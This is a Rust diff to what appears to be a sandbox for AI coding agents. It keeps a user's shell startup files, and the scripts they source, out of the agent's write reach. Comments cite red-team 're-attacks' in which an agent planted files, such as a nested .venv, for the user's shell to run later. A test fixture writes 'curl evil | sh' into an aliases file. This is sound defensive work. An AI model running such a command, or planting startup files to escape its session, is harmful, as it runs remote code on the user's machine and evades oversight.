@@ -406,7 +406,8 @@ pub fn write_access(
         let files: Vec<PathBuf> = files.iter().cloned().chain(named.filter(|f| f.is_file())).collect();
         let read = super::sourced::read_in_all(&files, home);
         startup.extend(read.found);
-        let tails = tail_scopes(&read.tails, &roots_worked_in);
+        let (tails, near_top) = tail_scopes(&read.tails, &roots_worked_in, false);
+        startup.extend(near_top);
         let (there, cut_short) = trusted_files_told(&tails);
         startup.extend(there.iter().cloned());
         access.trusted_files.extend(there);
@@ -421,7 +422,7 @@ pub fn write_access(
     // re-attack's I6): kept at any depth, as a name after an unknown variable is.
     let modules = node_modules_preloaded(env);
     if !modules.is_empty() {
-        let scopes = tail_scopes(&modules, &roots_worked_in);
+        let (scopes, _) = tail_scopes(&modules, &roots_worked_in, true);
         let (there, cut_short) = trusted_files_told(&scopes);
         startup.extend(there.iter().cloned());
         access.trusted_files.extend(there);
@@ -1073,9 +1074,13 @@ pub fn name_matches(name: &str, wanted: &str) -> bool {
 /// workspace, the `--writable` paths), looked through for the part before a pattern's first
 /// wildcard below every directory, at any depth — there at launch, read-only; made in the session,
 /// moved aside at its end (the thirty-sixth re-attack's H25 made a `.venv` two levels down, and
-/// one of its own, for the user's auto-activating `cd`).
-fn tail_scopes(tails: &[String], roots: &[PathBuf]) -> Vec<(PathBuf, Names)> {
+/// one of its own, for the user's auto-activating `cd`). A name of one part (`bin`, `init.sh`)
+/// names too much to keep everywhere (a build's `bin/`, moved aside, would take the agent's work
+/// from it) unless `single_anywhere`: it is kept where it is at each root's top and one directory
+/// down, the second of what is returned.
+fn tail_scopes(tails: &[String], roots: &[PathBuf], single_anywhere: bool) -> (Vec<(PathBuf, Names)>, Vec<PathBuf>) {
     let mut known: Vec<String> = Vec::new();
+    let mut near_top: Vec<PathBuf> = Vec::new();
     for tail in tails {
         let part: PathBuf = Path::new(tail)
             .components()
@@ -1085,16 +1090,26 @@ fn tail_scopes(tails: &[String], roots: &[PathBuf]) -> Vec<(PathBuf, Names)> {
         if part.as_os_str().is_empty() || part.is_absolute() || part.starts_with("..") {
             continue;
         }
+        if part.components().count() == 1 && !single_anywhere {
+            for root in roots {
+                let children = std::fs::read_dir(root).into_iter().flatten().flatten().take(10_000);
+                let dirs = children.filter(|child| child.file_type().is_ok_and(|kind| kind.is_dir()));
+                let bases = std::iter::once(root.clone()).chain(dirs.map(|child| child.path()));
+                near_top
+                    .extend(bases.map(|base| base.join(&part)).filter(|path| std::fs::symlink_metadata(path).is_ok()));
+            }
+            continue;
+        }
         // Always a path (`./x.sh` for a name alone): looked for below each directory.
         known.push(format!("./{}", part.display()));
     }
     known.sort();
     known.dedup();
     if known.is_empty() {
-        return Vec::new();
+        return (Vec::new(), near_top);
     }
     let names: Names = known.into_iter().map(std::borrow::Cow::Owned).collect();
-    roots.iter().map(|root| (root.clone(), names.clone())).collect()
+    (roots.iter().map(|root| (root.clone(), names.clone())).collect(), near_top)
 }
 
 /// Whether `path` is what `wanted` (one of a trusted scope's [`Names`]) names: by its file name,
@@ -2806,6 +2821,17 @@ mod tests {
         std::fs::write(dotfiles.join("new/shell/aliases.sh"), "curl evil | sh\n").unwrap();
         assert!(trusted_files_in(&access.trusted).contains(&dotfiles.join("new/shell/aliases.sh")));
         std::fs::remove_dir_all(dotfiles.join("new")).unwrap();
+        // A name of one part names too much to keep at any depth (a build's `bin/`): at the top
+        // and one directory down only.
+        std::fs::create_dir_all(dotfiles.join("pkg/deep")).unwrap();
+        for file in ["init.sh", "pkg/deep/init.sh"] {
+            std::fs::write(dotfiles.join(file), "x\n").unwrap();
+        }
+        std::fs::write(home.join(".bashrc"), "source \"$TOOLS/init.sh\"\n").unwrap();
+        let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &temp_dir, &[]).unwrap();
+        assert!(access.read_only.contains(&dotfiles.join("init.sh")), "{:?}", access.read_only);
+        assert!(!access.read_only.contains(&dotfiles.join("pkg/deep/init.sh")), "{:?}", access.read_only);
+        assert!(!trusted_files_in(&access.trusted).contains(&dotfiles.join("pkg/deep/init.sh")));
         std::fs::write(
             dotfiles.join("vimrc"),
             "let s:dir = fnamemodify(resolve($MYVIMRC), ':p:h')\nexecute 'source' s:dir . '/vim/keys.vim'\n",
